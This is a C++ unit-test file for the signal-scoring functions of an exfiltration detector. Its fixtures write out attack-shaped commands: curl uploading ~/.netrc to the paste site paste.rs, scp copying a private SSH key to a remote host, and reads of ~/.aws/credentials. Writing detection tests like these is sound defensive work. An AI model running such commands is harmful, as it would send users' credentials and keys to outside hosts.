// Tests detect/signals.cpp: each signal function on its own, with hand-built lineage views and
// pair facts (no engine, no timeline).
#include <doctest/doctest.h>

#include "detect/signals.hpp"
#include "timeline.hpp"

using namespace exfilwatch;
using namespace exfilwatch::detect;
using namespace exfilwatch::detect::test;

namespace {

const Rules& rules()
{
    static const Rules r = builtin();
    return r;
}

ProcessRef proc(std::string name, std::vector<std::string> args = {}, std::string entity = {})
{
    ProcessRef p;
    p.pid = 100;
    p.name = name;
    p.executable = "/usr/bin/" + name;
    p.args = args.empty() ? std::vector<std::string>{name} : std::move(args);
    p.entity_id = entity.empty() ? "e-" + name : entity;
    p.has_tty = true;
    return p;
}

// A lineage view built by hand: nodes and reads owned here, the view points into them.
struct View {
    std::vector<std::unique_ptr<ProcessNode>> nodes;
    std::vector<std::unique_ptr<ReadRecord>> reads;
    LineageView view;

    const ProcessNode* member(const ProcessRef& p)
    {
        for (const auto& n : nodes)
            if (n->ref.entity_id == p.entity_id) return n.get();
        nodes.push_back(std::make_unique<ProcessNode>());
        nodes.back()->ref = p;
        view.members.push_back(nodes.back().get());
        return nodes.back().get();
    }
    void read(const ProcessRef& reader, const std::string& path, std::uint64_t bytes, std::string opened_by = {})
    {
        const auto* node = member(reader);
        auto r = std::make_unique<ReadRecord>();
        r->path = path;
        r->cls = rules().classify(path, &r->display);
        REQUIRE(r->cls != nullptr);
        r->bytes = bytes;
        r->opened_by = opened_by.empty() ? reader.name : opened_by;
        view.sources.push_back(LineageSource{node, r.get(), {}, node});
        reads.push_back(std::move(r));
    }
};

PairFacts facts(const ProcessRef& up, std::string domain, std::uint64_t out, std::uint64_t in, bool tls = true)
{
    PairFacts f;
    f.uploader = &up;
    f.domain = std::move(domain);
    f.destination = {"127.0.0.1", 443};
    f.tls = tls;
    f.bytes_out = out;
    f.bytes_in = in;
    return f;
}

const std::string ssh_key = home + "/.ssh/id_ed25519";
const std::string netrc = home + "/.netrc";

}  // namespace

TEST_CASE("signals: destination by category, unknown destination weighs its own weight")
{
    auto up = proc("curl");
    SignalList list(true);
    auto pair = facts(up, "paste.rs", 3000, 500);
    const auto* service = rules().service_for("paste.rs", "");
    REQUIRE(service != nullptr);
    const auto* cat = destination_signal(rules(), service, pair, list);
    REQUIRE(cat != nullptr);
    CHECK(cat->name == "paste");
    REQUIRE(list.signals().size() == 1);
    CHECK(list.signals()[0].name == "destination-paste");
    CHECK(list.signals()[0].weight == cat->weight);
    CHECK(list.signals()[0].evidence == "paste site paste.rs");

    SignalList none(true);
    auto unknown = facts(up, "", 3000, 500);
    CHECK(destination_signal(rules(), nullptr, unknown, none) == nullptr);
    // unknown-destination weighs 0 in the built-in rules: no signal at all.
    CHECK(none.signals().empty());
    CHECK(destination_label(nullptr) == "web service");
}

TEST_CASE("signals: evidence is built only when explaining")
{
    SignalList quiet(false);
    bool built = false;
    quiet.add("x", 5, [&] {
        built = true;
        return std::string("evidence");
    });
    CHECK_FALSE(built);
    CHECK(quiet.total() == 5);
    CHECK(quiet.signals()[0].evidence.empty());
    quiet.add("zero", 0, [] { return std::string("never"); });
    CHECK(quiet.signals().size() == 1);
    CHECK_FALSE(quiet.has("zero"));
}

TEST_CASE("signals: a consumer reading its own key is use; the uploader reading it is data")
{
    auto ssh = proc("ssh", {"ssh", "-i", "deploy", "host"});
    View own;
    own.read(ssh, ssh_key, 400);
    auto d = data_in_lineage(rules(), own.view, ssh);
    CHECK_FALSE(d.has_data());
    REQUIRE(d.own_use.size() == 1);
    CHECK(d.own_use.begin()->find("ssh read") == 0);
    SignalList list(true);
    sensitive_read_signals(rules(), d, list);
    credential_use_signal(rules(), d, list);
    REQUIRE(list.signals().size() == 1);
    CHECK(list.signals()[0].name == "credential-use");

    // curl reading ~/.netrc named on its own command line: data, not use (curl is a consumer).
    auto curl = proc("curl", {"curl", "-F", "f=@" + netrc, "https://paste.rs/"});
    View leak;
    leak.read(curl, netrc, 2400);
    auto d2 = data_in_lineage(rules(), leak.view, curl);
    REQUIRE(d2.has_data());
    CHECK(d2.own_use.empty());
    CHECK(d2.payload() == 2400);
    SignalList list2(true);
    sensitive_read_signals(rules(), d2, list2);
    REQUIRE(list2.signals().size() == 1);
    CHECK(list2.signals()[0].name == "sensitive-read");
    CHECK(list2.signals()[0].weight == d2.top->read->cls->weight);
    CHECK(list2.signals()[0].evidence.find("~/.netrc") != std::string::npos);

    // A shell opened the key as the consumer's stdin: not the consumer's own use.
    View redirected;
    redirected.read(ssh, ssh_key, 400, "bash");
    CHECK(data_in_lineage(rules(), redirected.view, ssh).has_data());
}

TEST_CASE("signals: more sensitive classes add at most two extra-class steps")
{
    auto cat = proc("cat");
    auto up = proc("curl", {"curl", "https://paste.rs/"});
    View v;
    v.member(up);
    v.read(cat, ssh_key, 400);
    v.read(cat, netrc, 300);
    v.read(cat, home + "/.aws/credentials", 200);
    v.read(cat, home + "/.bash_history", 200);
    auto d = data_in_lineage(rules(), v.view, up);
    CHECK(d.classes.size() == 4);
    CHECK(d.payload() == 1100);
    SignalList list(true);
    sensitive_read_signals(rules(), d, list);
    REQUIRE(list.signals().size() == 2);
    CHECK(list.signals()[1].name == "sensitive-extra-class");
    CHECK(list.signals()[1].weight == 2 * rules().signals.sensitive_extra_class);
    CHECK(d.top->read->cls->name == "ssh-key");  // the heaviest (35; history and tokens weigh less)
}

TEST_CASE("signals: volume covers the data plus the protocol's overhead")
{
    auto cat = proc("cat");
    auto up = proc("curl");
    View v;
    v.read(cat, netrc, 2000);
    auto d = data_in_lineage(rules(), v.view, up);
    const auto overhead = rules().settings.tls_overhead_bytes;

    auto below = facts(up, "paste.rs", 2000 + overhead - 1, 100);
    SignalList l1(false);
    CHECK_FALSE(volume_signal(rules(), below, d, shape_of(rules(), below), l1));
    CHECK(l1.signals().empty());

    auto enough = facts(up, "paste.rs", 2000 + overhead, 100);
    SignalList l2(true);
    CHECK(volume_signal(rules(), enough, d, shape_of(rules(), enough), l2));
    REQUIRE(l2.signals().size() == 1);
    CHECK(l2.signals()[0].name == "data-volume");

    // A raw stream has no overhead; an HTTP request a head.
    auto raw = facts(up, "", 2000, 0, false);
    CHECK(protocol_overhead(rules(), raw) == 0);
    raw.path = "/upload";
    CHECK(protocol_overhead(rules(), raw) == rules().settings.http_overhead_bytes);

    // Receiving a lot (download padding) does not offset what was sent, and is not download-shaped
    // once the data is covered.
    auto download = facts(up, "paste.rs", 4000, 400'000);
    auto shape = shape_of(rules(), download);
    CHECK(shape.download_shaped);
    SignalList l3(true);
    CHECK(volume_signal(rules(), download, d, shape, l3));
    shape_signals(rules(), download, shape, true, l3);
    CHECK_FALSE(l3.has("download-shaped"));
    SignalList l3b(true);
    shape_signals(rules(), download, shape, false, l3b);
    CHECK(l3b.has("download-shaped"));

    // Trickles: ten connections of 800 bytes each (512 of TLS each) add up to the 2000 read; its
    // twin, the same ten handshakes with nothing after them, does not.
    auto trickle = facts(up, "paste.rs", 800, 100);
    trickle.lineage_bytes_out = 8000;
    trickle.lineage_flows = 10;
    SignalList l5(true);
    CHECK(volume_signal(rules(), trickle, d, shape_of(rules(), trickle), l5));
    CHECK(l5.signals()[0].evidence.find("over 10 connections") != std::string::npos);
    auto handshakes = facts(up, "paste.rs", 520, 100);
    handshakes.lineage_bytes_out = 5200;
    handshakes.lineage_flows = 10;
    SignalList l6(false);
    CHECK_FALSE(volume_signal(rules(), handshakes, d, shape_of(rules(), handshakes), l6));

    // An SSH session's handshake is overhead: a 2000-byte key is not covered by 4 KiB out.
    auto ssh = facts(up, "", 4096, 4000, false);
    ssh.ssh = true;
    CHECK(protocol_overhead(rules(), ssh) == ssh_overhead_bytes);
    SignalList l7(false);
    CHECK_FALSE(volume_signal(rules(), ssh, d, shape_of(rules(), ssh), l7));
    ssh.bytes_out = ssh_overhead_bytes + 2000;
    CHECK(volume_signal(rules(), ssh, d, shape_of(rules(), ssh), l7));

    // Through an encoder a quarter is enough.
    auto gz = proc("gzip");
    View tv;
    tv.member(gz);
    tv.read(cat, netrc, 8000);
    auto td = data_in_lineage(rules(), tv.view, up);
    CHECK(td.transformer);
    auto partial = facts(up, "paste.rs", 2000 + overhead, 100);
    SignalList l4(true);
    CHECK(volume_signal(rules(), partial, td, shape_of(rules(), partial), l4));
    CHECK(l4.has("data-volume-partial"));
}

TEST_CASE("signals: upload, download and bulk shapes")
{
    auto up = proc("curl");
    const auto& s = rules().settings;
    auto upload = facts(up, "x", s.min_upload_bytes * 4, s.min_upload_bytes);
    auto shape = shape_of(rules(), upload);
    CHECK(shape.upload_shaped);
    CHECK_FALSE(shape.download_shaped);
    SignalList list(true);
    shape_signals(rules(), upload, shape, false, list);
    CHECK(list.has("upload-shaped"));
    CHECK_FALSE(list.has("bulk-upload"));

    auto tiny = facts(up, "x", s.min_upload_bytes - 1, 0);
    CHECK_FALSE(shape_of(rules(), tiny).upload_shaped);
    auto bulk = facts(up, "x", s.bulk_upload_bytes, 0);
    CHECK(shape_of(rules(), bulk).bulk);
}

TEST_CASE("signals: the command line is the uploader's, else its nearest uploading ancestor's")
{
    CommandAnalysis own;
    own.download = true;
    CommandAnalysis shell;
    CommandAnalysis git;
    git.upload = true;
    git.upload_evidence = "push";
    git.upload_weight = 15;
    auto cmd = effective_command(own, {&shell, &git});
    CHECK(cmd.upload);
    CHECK_FALSE(cmd.download);
    CHECK(cmd.upload_evidence == "push (parent)");
    CHECK(effective_command(own, {&shell}).download);

    auto up = proc("ssh");
    SignalList list(true);
    command_signal(rules(), cmd, up, list);
    REQUIRE(list.signals().size() == 1);
    CHECK(list.signals()[0].name == "upload-command");
    CHECK(list.signals()[0].weight == 15);
    SignalList dl(true);
    command_signal(rules(), own, up, dl);
    CHECK(dl.has("download-command"));
}

TEST_CASE("signals: who uploads")
{
    auto up = proc("curl");
    up.has_tty = false;
    up.container_id = "0123456789abcdef0123";
    up.executable = "/tmp/curl";
    auto pair = facts(up, "paste.rs", 10, 10);
    pair.first_seen = true;
    CommandAnalysis cmd;
    SignalList list(true);
    uploader_signals(rules(), cmd, pair, list);
    CHECK(list.has("no-tty"));
    CHECK(list.has("in-container"));
    CHECK(list.has("first-seen-destination"));
    CHECK(list.has("unusual-executable-path"));
    for (const auto& s : list.signals())
        if (s.name == "in-container") CHECK(s.evidence == "0123456789ab");

    auto quiet = proc("curl");
    SignalList none(true);
    uploader_signals(rules(), cmd, facts(quiet, "paste.rs", 10, 10), none);
    CHECK(none.signals().empty());
}

TEST_CASE("signals: allowlists lower the score")
{
    auto restic = proc("restic");
    SignalList list(true);
    allowlist_signals(rules(), facts(restic, "b2.example", 10, 10), list);
    REQUIRE(list.signals().size() == 1);
    CHECK(list.signals()[0].name == "allowlisted-process");
    CHECK(list.signals()[0].weight < 0);
    CHECK(list.signals()[0].evidence == "sync or backup client");
    SignalList none(true);
    auto curl = proc("curl");
    allowlist_signals(rules(), facts(curl, "b2.example", 10, 10), none);
    CHECK(none.signals().empty());
}

TEST_CASE("signals: the gate holds a score without data or without departure")
{
    const int threshold = rules().settings.alert_threshold;
    auto g = gate(rules(), 90, true, true);
    CHECK(g.score == 90);
    CHECK_FALSE(g.gated);
    auto no_data = gate(rules(), 90, false, true);
    CHECK(no_data.score == threshold - 1);
    CHECK(no_data.gated);
    CHECK(gate(rules(), 90, true, false).gated);
    CHECK(gate(rules(), 150, true, true).score == 100);
    CHECK(gate(rules(), -20, false, false).score == 0);
    CHECK_FALSE(gate(rules(), threshold - 5, false, false).gated);  // under the threshold anyway

    DataInLineage none;
    CommandAnalysis cmd;
    Shape shape;
    CHECK_FALSE(data_left(rules(), cmd, shape, true, none, nullptr));
    cmd.upload = true;
    CHECK(data_left(rules(), cmd, shape, false, none, nullptr));
}

TEST_CASE("signals: the reason names uploader, destination, reader and file")
{
    auto cat = proc("cat");
    auto up = proc("curl");
    View v;
    v.read(cat, ssh_key, 400);
    auto d = data_in_lineage(rules(), v.view, up);
    auto pair = facts(up, "paste.rs", 2048, 100);
    const auto* cat_paste = rules().category("paste");
    auto reason = alert_reason(CommandAnalysis{}, pair, cat_paste, d);
    CHECK(reason ==
          "curl uploaded 2.0 KiB to paste site paste.rs (T1567.003) after cat read ~/.ssh/id_ed25519 (ssh-key)");
    CHECK(human_bytes(1023) == "1023 B");
    CHECK(human_bytes(1536) == "1.5 KiB");
}

TEST_CASE("signals: a key handed to ssh with -i is use; the same key as scp's file to copy is data")
{
    auto ssh = proc("ssh", {"ssh", "-i", ssh_key, "-p", "2222", "root@host", "true"});
    View use;
    use.read(ssh, ssh_key, 400);
    auto d = data_in_lineage(rules(), use.view, ssh);
    CHECK_FALSE(d.has_data());
    CHECK(d.own_use.size() == 1);
    for (auto args : {std::vector<std::string>{"ssh", "-i" + ssh_key, "host"},
                      std::vector<std::string>{"ssh", "-o", "IdentityFile=" + ssh_key, "host"},
                      std::vector<std::string>{"ssh", "-oIdentityFile=" + ssh_key, "host"},
                      std::vector<std::string>{"ssh", "--identity=" + ssh_key, "host"}}) {
        auto p = proc("ssh", args);
        CHECK_FALSE(names_file(without_identity_options(p), ssh_key));
        CHECK(names_file(p, ssh_key));
    }
    // scp -i DEPLOY KEY host: : the deploy key is use, the copied key is data (read by scp,
    // carried by its ssh child).
    const std::string deploy = home + "/.ssh/id_deploy";
    auto scp = proc("scp", {"scp", "-i", deploy, ssh_key, "root@host:/tmp/"});
    auto child = proc("ssh", {"ssh", "-i", deploy, "-x", "root@host", "scp -t /tmp/"});
    child.parent_entity_id = scp.entity_id;
    View leak;
    leak.member(child);
    leak.read(child, deploy, 400);
    leak.read(scp, ssh_key, 2600);
    auto d2 = data_in_lineage(rules(), leak.view, child);
    REQUIRE(d2.has_data());
    CHECK(d2.top->read->path == ssh_key);
    CHECK(d2.own_use.size() == 1);
    // Its twin: scp -i DEPLOY artifact host: has no data.
    auto plain = proc("scp", {"scp", "-i", deploy, "artifact.tar", "root@host:/tmp/"});
    child.parent_entity_id = plain.entity_id;
    View everyday;
    everyday.member(child);
    everyday.member(plain);
    everyday.read(child, deploy, 400);
    CHECK_FALSE(data_in_lineage(rules(), everyday.view, child).has_data());
    // A consumer outside the uploader's line naming the key (ssh-keygen -f KEY earlier) is use.
    auto keygen = proc("ssh-keygen", {"ssh-keygen", "-y", "-f", ssh_key});
    auto curl_up = proc("curl", {"curl", "-d", "hello", "https://x/"});
    View earlier;
    earlier.member(curl_up);
    earlier.read(keygen, ssh_key, 400);
    CHECK_FALSE(data_in_lineage(rules(), earlier.view, curl_up).has_data());
    // curl -i is --include: what follows stays named.
    auto curl = proc("curl", {"curl", "-i", "-F", "f=@" + netrc, "https://x/"});
    CHECK(names_file(without_identity_options(curl), netrc));
}
